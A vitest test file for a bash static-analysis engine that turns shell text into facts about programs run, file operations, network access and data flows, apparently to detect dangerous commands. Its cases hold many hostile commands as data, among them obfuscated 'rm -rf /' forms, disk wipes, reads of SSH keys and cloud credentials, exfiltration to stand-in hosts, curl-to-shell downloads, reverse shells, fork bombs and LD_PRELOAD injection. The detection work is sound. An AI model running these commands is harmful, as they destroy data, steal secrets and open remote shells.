// Facts the bash extractor produces, construct by construct (table-driven).
import { beforeAll, describe, expect, it } from 'vitest';
import { analyze } from '../../../src/engine/analyze.js';
import type { DataSink, DataSource, Fact, FactKind, FactOf } from '../../../src/engine/facts.js';
import { loadParsers } from '../../../src/engine/parse/index.js';

const LIMITS = { maxInputBytes: 256 * 1024, maxDepth: 8 };

beforeAll(async () => {
  await loadParsers();
});

function facts(text: string): readonly Fact[] {
  return analyze(text, 'bash', LIMITS);
}

function of<K extends FactKind>(text: string, kind: K): FactOf<K>[] {
  return facts(text).filter((f): f is FactOf<K> => f.kind === kind);
}

function sourceKey(s: DataSource): string {
  switch (s.kind) {
    case 'file':
      return 'file:' + s.path;
    case 'env':
      return 'env:' + (s.name ?? '*');
    case 'net':
      return 'net:' + s.host;
    case 'decoded':
      return 'decoded';
    case 'output':
      return 'output:' + s.program;
    case 'page':
      return 'page:' + s.what;
  }
}

function sinkKey(s: DataSink): string {
  return s.kind === 'exec'
    ? 'exec:' + s.program
    : s.kind === 'file'
      ? 'file:' + s.path
      : s.kind + ':' + s.host;
}

function flows(text: string): string[] {
  return of(text, 'flow').map((f) => `${sourceKey(f.from)} -> ${sinkKey(f.to)}`);
}

describe('programs run (ExecFact)', () => {
  const cases: [string, string, string[], string?][] = [
    ['git status', 'git', ['git', 'status']],
    ['/bin/rm -rf x', 'rm', ['/bin/rm', '-rf', 'x']],
    ["r''m -rf x", 'rm', ['rm', '-rf', 'x']],
    ['\\rm x', 'rm', ['rm', 'x']],
    ['"rm" x', 'rm', ['rm', 'x']],
    ['\'r\'"m" x', 'rm', ['rm', 'x']],
    ["$'\\x72m' x", 'rm', ['rm', 'x']],
    ['a=r;b=m; $a$b -rf /', 'rm', ['rm', '-rf', '/']],
    ['X=/; rm -rf $X', 'rm', ['rm', '-rf', '/']],
    ['rm -rf "$HOME/x" ${HOME}/y', 'rm', ['rm', '-rf', '~/x', '~/y']],
    ['echo {a,b}c', 'echo', ['echo', 'ac', 'bc']],
    ['sudo -u root rm -rf /var', 'rm', ['rm', '-rf', '/var'], 'sudo'],
    ['doas rm x', 'rm', ['rm', 'x'], 'doas'],
    ['env X=1 rm x', 'rm', ['rm', 'x'], 'env'],
    ['/usr/bin/env rm x', 'rm', ['rm', 'x'], 'env'],
    ['timeout 5 rm x', 'rm', ['rm', 'x'], 'timeout'],
    ['nohup rm x', 'rm', ['rm', 'x'], 'nohup'],
    ['nice -n 5 rm x', 'rm', ['rm', 'x'], 'nice'],
    ['ionice -c 3 rm x', 'rm', ['rm', 'x'], 'ionice'],
    ['stdbuf -o0 rm x', 'rm', ['rm', 'x'], 'stdbuf'],
    ['command rm x', 'rm', ['rm', 'x'], 'command'],
    ['builtin rm x', 'rm', ['rm', 'x'], 'builtin'],
    ['exec rm x', 'rm', ['rm', 'x'], 'exec'],
    ['time rm x', 'rm', ['rm', 'x'], 'time'],
    ['watch -x rm x', 'rm', ['rm', 'x'], 'watch'],
    ['xargs rm -rf', 'rm', ['rm', '-rf', '{}'], 'xargs'],
    ['find . -exec /bin/sh \\;', 'sh', ['/bin/sh'], 'find'],
    ['kubectl exec -it pod -- sh', 'sh', ['sh'], 'kubectl'],
  ];
  it.each(cases)('%s → %s', (input, program, argv, via) => {
    const execs = of(input, 'exec');
    const hit = execs.find((e) => e.program === program && e.via === via);
    expect(hit, JSON.stringify(execs)).toBeDefined();
    expect(hit!.argv).toEqual(argv);
  });

  it('emits an ExecFact for the wrapper too', () => {
    expect(of('sudo rm x', 'exec').map((e) => e.program)).toEqual(['sudo', 'rm']);
  });

  it('marks unresolved expansions dynamic', () => {
    const [e] = of('rm -rf $DIR', 'exec');
    expect(e).toMatchObject({ program: 'rm', argv: ['rm', '-rf', '$DIR'], dynamic: true });
  });

  it.each([
    ['sh', true],
    ['echo x | sh', false],
    ['sh <<EOF\nls\nEOF', false],
    ['sh <<< ls', false],
    ['sh < script.sh', false],
    // awk `print ... | "sh"` and perl `open(F, "| sh")` feed the shell from a pipe.
    ['awk \'BEGIN { print "id" | "sh" }\'', false],
    ['perl -e \'open(F, "| sh"); print F "id"\'', false],
    ['awk \'BEGIN { system("sh") }\'', true],
    ['exec 9<>/dev/tcp/10.0.0.1/80; sh <&9', false],
  ])('stdinInteractive for %j is %s', (input, interactive) => {
    const sh = of(input, 'exec').find((e) => e.program === 'sh');
    expect(sh?.stdinInteractive).toBe(interactive);
  });
});

describe('file operations (FileOpFact)', () => {
  type Want = {
    op: string;
    path: string;
    recursive?: boolean;
    actor?: string;
    mode?: string;
    owner?: string;
  };
  const cases: [string, Want][] = [
    ['rm -rf /', { op: 'delete', path: '/', recursive: true, actor: 'rm' }],
    ['rm -R ./build', { op: 'delete', path: './build', recursive: true }],
    ['rm --recursive x', { op: 'delete', path: 'x', recursive: true }],
    ['rm -f x', { op: 'delete', path: 'x', recursive: false }],
    ['rmdir d', { op: 'delete', path: 'd' }],
    ['unlink f', { op: 'delete', path: 'f' }],
    ['shred -u f', { op: 'delete', path: 'f' }],
    ['rm -rf /{etc,usr}', { op: 'delete', path: '/usr', recursive: true }],
    ['cd / && rm -rf *', { op: 'delete', path: '/*', recursive: true }],
    ['find / -name x -delete', { op: 'delete', path: '/', recursive: true, actor: 'find' }],
    ['find /etc -exec rm {} \\;', { op: 'delete', path: '/etc/*', actor: 'rm' }],
    ['echo x > /etc/passwd', { op: 'write', path: '/etc/passwd', actor: 'echo' }],
    ['echo x >> ~/.bashrc', { op: 'append', path: '~/.bashrc' }],
    ['cat < ~/.ssh/id_rsa', { op: 'read', path: '~/.ssh/id_rsa' }],
    ['cp a /etc/b', { op: 'copy', path: '/etc/b', actor: 'cp' }],
    ['cp ~/.ssh/id_rsa /tmp/', { op: 'read', path: '~/.ssh/id_rsa' }],
    ['mv /etc/hosts /tmp/', { op: 'move', path: '/etc/hosts' }],
    ['install -m 4755 x /usr/local/bin/x', { op: 'chmod', path: '/usr/local/bin/x', mode: '4755' }],
    ['ln -s /tmp/x /etc/cron.d/x', { op: 'link', path: '/etc/cron.d/x' }],
    [
      'echo k | tee -a ~/.ssh/authorized_keys',
      { op: 'append', path: '~/.ssh/authorized_keys', actor: 'tee' },
    ],
    ['touch /etc/x', { op: 'create', path: '/etc/x' }],
    ['truncate -s 0 /var/log/syslog', { op: 'truncate', path: '/var/log/syslog' }],
    ["sed -i 's/a/b/' /etc/hosts", { op: 'write', path: '/etc/hosts', actor: 'sed' }],
    ['dd if=/dev/zero of=/dev/sda bs=1M', { op: 'write', path: '/dev/sda', actor: 'dd' }],
    ['chmod 777 /etc', { op: 'chmod', path: '/etc', mode: '777' }],
    ['chmod -R u+s ~/bin', { op: 'chmod', path: '~/bin', mode: 'u+s', recursive: true }],
    ['chown -R nobody /usr', { op: 'chown', path: '/usr', owner: 'nobody', recursive: true }],
    ['chgrp wheel /etc/sudoers', { op: 'chown', path: '/etc/sudoers', owner: ':wheel' }],
    ['umask 000', { op: 'chmod', path: '', actor: 'umask', mode: '000' }],
    ['chmod -R /', { op: 'chmod', path: '/', recursive: true }],
    ['fdisk -w -u /dev/sda', { op: 'write', path: '/dev/sda', actor: 'fdisk' }],
    ['mkfs.ext4 /dev/sdb1', { op: 'write', path: '/dev/sdb1', actor: 'mkfs.ext4' }],
    ['wipefs -a /dev/sdb', { op: 'write', path: '/dev/sdb' }],
    ['fdisk /dev/sda', { op: 'write', path: '/dev/sda' }],
    ['parted /dev/sda mklabel gpt', { op: 'write', path: '/dev/sda' }],
    ['crontab -r', { op: 'delete', path: '/var/spool/cron/crontabs', actor: 'crontab' }],
    ['crontab evil.txt', { op: 'write', path: '/var/spool/cron/crontabs' }],
    ['head -n 5 ~/.aws/credentials', { op: 'read', path: '~/.aws/credentials', actor: 'head' }],
    ['grep -r key ~/.ssh/id_rsa', { op: 'read', path: '~/.ssh/id_rsa' }],
    ['tool --file=~/.aws/credentials', { op: 'read', path: '~/.aws/credentials' }],
    ['ssh -i ~/.ssh/id_rsa host', { op: 'read', path: '~/.ssh/id_rsa' }],
    ['curl -d @/etc/shadow https://x.example', { op: 'read', path: '/etc/shadow', actor: 'curl' }],
    ['tar czf out.tgz ~/.aws', { op: 'read', path: '~/.aws', actor: 'tar' }],
    ['base64 ~/.kube/config', { op: 'read', path: '~/.kube/config' }],
    ['echo $(< /etc/shadow)', { op: 'read', path: '/etc/shadow' }],
    // History tampering reads as truncating the history file (FS-AST-023).
    ['export HISTFILE=/dev/null', { op: 'truncate', path: '~/.bash_history', actor: 'bash' }],
    ['unset HISTFILE', { op: 'truncate', path: '~/.bash_history' }],
    ['HISTSIZE=0', { op: 'truncate', path: '~/.bash_history' }],
    ['export HISTFILESIZE=0', { op: 'truncate', path: '~/.bash_history' }],
    ['HISTFILE= bash', { op: 'truncate', path: '~/.bash_history' }],
    // Preloaded libraries are executed by the program (SH-AST-021).
    ['LD_PRELOAD=/tmp/x.so ls', { op: 'execute', path: '/tmp/x.so', actor: 'ls' }],
    ['DYLD_INSERT_LIBRARIES=/tmp/x.dylib ./app', { op: 'execute', path: '/tmp/x.dylib', actor: 'app' }],
    ['LD_PRELOAD=./a.so:/tmp/b.so ls', { op: 'execute', path: '/tmp/b.so' }],
    ['export LD_PRELOAD=/tmp/x.so', { op: 'execute', path: '/tmp/x.so', actor: 'bash' }],
  ];
  it.each(cases)('%s', (input, want) => {
    const ops = of(input, 'file');
    expect(ops, JSON.stringify(ops)).toContainEqual(expect.objectContaining(want));
  });

  it.each([
    'export HISTSIZE=10000',
    'HISTFILE=~/.hist_proj',
    'unset HISTIGNORE',
    'LD_LIBRARY_PATH=/opt/lib ./app',
  ])('no history truncate or library preload for %j', (input) => {
    expect(of(input, 'file').filter((f) => f.op === 'truncate' || f.op === 'execute')).toEqual([]);
  });

  it.each(['echo ~/.ssh/id_rsa', 'ls ~/.ssh', 'cmd 2>/dev/null', 'echo x >&2', 'rm -rf ./build'])(
    'no read of a secret for %j',
    (input) => {
      expect(of(input, 'file').filter((f) => f.op === 'read' && f.path.includes('.ssh'))).toEqual([]);
    },
  );
});

describe('network access (NetOpFact)', () => {
  type Want = {
    host: string;
    port?: number;
    sends?: boolean;
    direction?: string;
    actor?: string;
    url?: string;
  };
  const cases: [string, Want][] = [
    ['curl https://api.github.com/x', { host: 'api.github.com', port: 443, sends: false, actor: 'curl' }],
    ['curl -d a=1 http://x.example:8080/', { host: 'x.example', port: 8080, sends: true }],
    ['curl http://169.254.169.254/latest/meta-data/', { host: '169.254.169.254', port: 80 }],
    ['wget -qO- http://0xA9FEA9FE/', { host: '0xa9fea9fe' }],
    ['wget --post-file=/etc/passwd http://x.example', { host: 'x.example', sends: true }],
    ['nc 10.0.0.1 4444', { host: '10.0.0.1', port: 4444, direction: 'connect' }],
    ['nc -lvnp 4444', { host: '0.0.0.0', port: 4444, direction: 'listen' }],
    ['ncat --listen -p 9001', { direction: 'listen', host: '0.0.0.0', port: 9001 }],
    ['socat TCP:evil.example:80 EXEC:/bin/sh', { host: 'evil.example', port: 80, actor: 'socat' }],
    ['socat TCP-LISTEN:4444 STDOUT', { host: '0.0.0.0', direction: 'listen', port: 4444 }],
    ['telnet evil.example 23', { host: 'evil.example', port: 23 }],
    ['ssh -p 2222 user@box.example uptime', { host: 'box.example', port: 2222, actor: 'ssh' }],
    ['scp f.txt user@box.example:/tmp/', { host: 'box.example', sends: true }],
    ['rsync -a ./d box.example:/srv/', { host: 'box.example', sends: true }],
    ['sftp user@box.example', { host: 'box.example' }],
    ['dig example.com TXT', { host: 'example.com', actor: 'dig' }],
    ['nslookup example.com', { host: 'example.com' }],
    ['host example.com', { host: 'example.com' }],
    ['ping -c 1 example.com', { host: 'example.com' }],
    ['http POST api.example.com/x name=a', { host: 'api.example.com', sends: true }],
    ['cat < /dev/tcp/10.1.1.1/80', { host: '10.1.1.1', port: 80, url: '/dev/tcp/10.1.1.1/80' }],
    [
      'echo x > /dev/udp/10.1.1.1/53',
      { host: '10.1.1.1', port: 53, sends: true, url: '/dev/udp/10.1.1.1/53' },
    ],
    ['exec 196<>/dev/tcp/10.1.1.1/4444', { host: '10.1.1.1', port: 4444, sends: true, actor: 'exec' }],
    ['exec 3</dev/tcp/10.1.1.1/80', { host: '10.1.1.1', url: '/dev/tcp/10.1.1.1/80' }],
    ['cat <>/dev/tcp/10.1.1.1/80', { host: '10.1.1.1', sends: true, actor: 'cat' }],
    ['git clone https://github.com/org/repo', { host: 'github.com', actor: 'git' }],
    ['python3 -m http.server 8080', { host: '0.0.0.0', port: 8080, direction: 'listen' }],
  ];
  it.each(cases)('%s', (input, want) => {
    const nets = of(input, 'net');
    expect(nets, JSON.stringify(nets)).toContainEqual(expect.objectContaining(want));
  });
});

describe('data flows (FlowFact)', () => {
  const cases: [string, string][] = [
    ['cat ~/.aws/credentials | curl -d @- https://x.example', 'file:~/.aws/credentials -> net:x.example'],
    ['curl -s https://x.example | sh', 'net:x.example -> exec:sh'],
    ['wget -qO- https://x.example/i.sh | bash', 'net:x.example -> exec:bash'],
    ['bash <(curl https://x.example)', 'net:x.example -> exec:bash'],
    ['source <(curl -s https://x.example)', 'net:x.example -> exec:source'],
    ['echo aGk= | base64 -d | sh', 'decoded -> exec:sh'],
    ['env | curl -d @- https://x.example', 'env:* -> net:x.example'],
    ['printenv | nc x.example 80', 'env:* -> net:x.example'],
    ['curl -d "$AWS_SECRET_ACCESS_KEY" https://x.example', 'env:AWS_SECRET_ACCESS_KEY -> net:x.example'],
    ['dig $(cat ~/.ssh/id_rsa | base64).evil.example', 'file:~/.ssh/id_rsa -> dns:evil.example'],
    ['eval "$(curl https://x.example)"', 'net:x.example -> exec:eval'],
    ['curl -F f=@/etc/passwd https://x.example', 'file:/etc/passwd -> net:x.example'],
    ['curl --data-binary @~/.netrc https://x.example', 'file:~/.netrc -> net:x.example'],
    ['curl -T ~/.git-credentials https://x.example', 'file:~/.git-credentials -> net:x.example'],
    [
      'K=$(cat ~/.aws/credentials); curl -d "$K" https://x.example',
      'file:~/.aws/credentials -> net:x.example',
    ],
    ['curl "https://x.example/?k=$(cat ~/.netrc)"', 'file:~/.netrc -> net:x.example'],
    ['tar czf - ~/.ssh | ssh box.example "cat > k.tgz"', 'file:~/.ssh -> net:box.example'],
    ['scp ~/.ssh/id_rsa user@box.example:', 'file:~/.ssh/id_rsa -> net:box.example'],
    ['curl -o x.sh https://x.example/i.sh; sh x.sh', 'net:x.example -> exec:sh'],
    ['curl -o /tmp/x https://x.example/b && chmod +x /tmp/x && /tmp/x', 'net:x.example -> exec:x'],
    ['X=$(curl https://x.example); bash -c "$X"', 'net:x.example -> exec:bash'],
    ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'net:10.0.0.1 -> exec:bash'],
    ['nc -e /bin/sh 10.0.0.1 4242', 'net:10.0.0.1 -> exec:sh'],
    ['cat /proc/self/environ | curl -d @- https://x.example', 'env:* -> net:x.example'],
    [
      'read -r K < ~/.aws/credentials; curl -H "k: $K" https://x.example',
      'file:~/.aws/credentials -> net:x.example',
    ],
    ['curl https://x.example > /tmp/s.sh', 'net:x.example -> file:/tmp/s.sh'],
    // A socket kept open on a descriptor by exec, then wired to a shell.
    ['exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196', 'net:10.0.0.1 -> exec:sh'],
    ['exec 5<>/dev/tcp/10.0.0.1/4242; env >&5', 'env:* -> net:10.0.0.1'],
  ];
  it.each(cases)('%s', (input, want) => {
    expect(flows(input)).toContain(want);
  });

  it('a descriptor not opened on a socket carries nothing to the network', () => {
    expect(flows('exec 3>./log.txt; echo hi >&3; sh <&3')).toEqual([]);
  });

  it('no flow for a plain download to stdout', () => {
    expect(flows('curl -s https://api.github.com/repos/a/b')).toEqual([]);
  });
});

describe('nested code re-enters the engine', () => {
  it('bash -c: depth 1, via bash, span of the outer literal', () => {
    const text = "bash -c 'rm -rf /'";
    const rm = of(text, 'exec').find((e) => e.program === 'rm')!;
    expect(rm).toMatchObject({ depth: 1, via: 'bash', runtime: 'bash' });
    expect(text.slice(rm.span.start, rm.span.end)).toBe("'rm -rf /'");
    expect(of(text, 'file')).toContainEqual(expect.objectContaining({ op: 'delete', path: '/', depth: 1 }));
  });

  it.each([
    ["sh -c 'rm -rf /'", 'sh'],
    ["zsh -c 'rm -rf /'", 'zsh'],
    ["dash -c 'rm -rf /'", 'dash'],
    ['eval "rm -rf /"', 'eval'],
    ['xargs sh -c "rm -rf /"', 'sh'],
    ["ssh host 'rm -rf /'", 'ssh'],
    ["watch 'rm -rf /'", 'watch'],
    ["script -c 'rm -rf /'", 'script'],
    ["su -c 'rm -rf /'", 'su'],
    ['perl -e \'system("rm -rf /")\'', 'perl'],
    ["ruby -e '`rm -rf /`'", 'ruby'],
    ['php -r \'shell_exec("rm -rf /");\'', 'php'],
    ['lua -e \'os.execute("rm -rf /")\'', 'lua'],
    ['awk \'BEGIN { system("rm -rf /") }\'', 'awk'],
    ['awk \'BEGIN { "rm -rf /" | getline }\'', 'awk'],
    ["vim -c ':!rm -rf /'", 'vim'],
    ["git -c core.pager='rm -rf /' log", 'git'],
    ["tar cf /dev/null x --checkpoint-action=exec='rm -rf /'", 'tar'],
    ["zip z.zip f -T -TT 'rm -rf /'", 'zip'],
    ["rsync -e 'rm -rf /' a b:c", 'rsync'],
    ['echo "rm -rf /" | sh', 'sh'],
    ['sh <<EOF\nrm -rf /\nEOF', 'sh'],
    ["printf 'rm -rf /' | bash", 'bash'],
    ['echo cm0gLXJmIC8= | base64 -d | sh', 'sh'],
    ["GIT_SSH_COMMAND='rm -rf /' git fetch", 'git'],
    ['echo "rm -rf /" | at now + 1 minute', 'at'],
    ['osascript -e \'do shell script "rm -rf /"\'', 'osascript'],
  ])('%s runs rm via %s', (input, via) => {
    const rm = of(input, 'exec').find((e) => e.program === 'rm');
    expect(rm, JSON.stringify(facts(input))).toBeDefined();
    expect(rm!.via).toBe(via);
    expect(rm!.depth).toBeGreaterThanOrEqual(1);
  });

  it.each([
    ['perl -e \'exec "/bin/sh";\'', 'perl'],
    ['awk \'BEGIN {system("/bin/sh")}\'', 'awk'],
    ["vim -c ':!/bin/sh'", 'vim'],
    ["vi -c ':shell'", 'vi'],
    ['find . -exec /bin/sh \\; -quit', 'find'],
    ['script -q /dev/null', 'script'],
    ['sudo -s', 'sudo'],
  ])('%s spawns an interactive sh via %s', (input, via) => {
    const sh = of(input, 'exec').find((e) => e.program === 'sh' && e.via === via);
    expect(sh, JSON.stringify(facts(input))).toBeDefined();
    expect(sh!.stdinInteractive).toBe(true);
  });

  it.each([
    ["python3 -c 'print(1)'", 'python'],
    ["node -e 'console.log(1)'", 'node'],
    ["psql -c 'DROP TABLE users'", 'sql'],
    ["mysql -e 'DROP DATABASE x'", 'sql'],
    ["sqlite3 db.sqlite 'DELETE FROM t'", 'sql'],
    ['docker run --rm alpine ls', 'docker'],
  ])('%s is handed to the %s runtime', (input, runtime) => {
    // maxDepth 0 turns every re-entry into an UnparsedFact naming its runtime, whatever its extractor finds.
    const nested = analyze(input, 'bash', { ...LIMITS, maxDepth: 0 }).filter((f) => f.depth === 1);
    expect(nested, JSON.stringify(facts(input))).toContainEqual(
      expect.objectContaining({ kind: 'unparsed', runtime }),
    );
  });
});

describe('loops (LoopFact)', () => {
  type Want = { unbounded: boolean; sleeps?: boolean; exits?: boolean; forks?: boolean };
  const cases: [string, Want][] = [
    ['while true; do echo; done', { unbounded: true, sleeps: false, exits: false }],
    ['while :; do sleep 1; done', { unbounded: true, sleeps: true }],
    ['until false; do break; done', { unbounded: true, exits: true }],
    ['for ((;;)); do :; done', { unbounded: true }],
    ['while true; do yes & done', { unbounded: true, forks: true }],
    ['for f in *.ts; do echo $f; done', { unbounded: false }],
    ['while read l; do echo $l; done < f', { unbounded: false }],
    [':(){ :|:& };:', { unbounded: true, forks: true, sleeps: false, exits: false }],
    ['bomb() { bomb | bomb & }; bomb', { unbounded: true, forks: true }],
    ['function f { f | f & }; f', { unbounded: true, forks: true }],
    ["perl -e 'fork while true;'", { unbounded: true, forks: true }],
  ];
  it.each(cases)('%s', (input, want) => {
    expect(of(input, 'loop')).toContainEqual(expect.objectContaining(want));
  });

  it('a plain function is not a loop', () => {
    expect(of('f() { echo hi; }; f', 'loop')).toEqual([]);
  });
});

describe('literals (LiteralFact)', () => {
  it('quoted arguments are literals; network-sent ones are egress', () => {
    const lits = of('git commit -m "fix the bug"; curl -d "ssn 123-45-6789" https://x.example', 'literal');
    expect(lits).toContainEqual(expect.objectContaining({ text: 'fix the bug', egress: false }));
    expect(lits).toContainEqual(expect.objectContaining({ text: 'ssn 123-45-6789', egress: true }));
  });

  it('piped literals are egress when the pipe reaches the network', () => {
    const lits = of("echo 'jane@example.com' | nc x.example 80", 'literal');
    expect(lits).toContainEqual(expect.objectContaining({ text: 'jane@example.com', egress: true }));
  });

  it('here-document bodies are literals', () => {
    expect(of('cat <<EOF\nhello there\nEOF', 'literal')).toContainEqual(
      expect.objectContaining({ text: 'hello there\n' }),
    );
  });
});

describe('unparsed input (UnparsedFact)', () => {
  it.each(['echo "unterminated', 'if true; then rm -rf /', 'ls )(', 'cat <<EOF > out | sh\nx\nEOF'])(
    '%j yields an UnparsedFact',
    (input) => {
      expect(of(input, 'unparsed').length).toBeGreaterThan(0);
    },
  );

  it('still extracts what parses around an error', () => {
    const all = facts('rm -rf / ; echo "x');
    expect(all).toContainEqual(expect.objectContaining({ kind: 'file', op: 'delete', path: '/' }));
  });
});
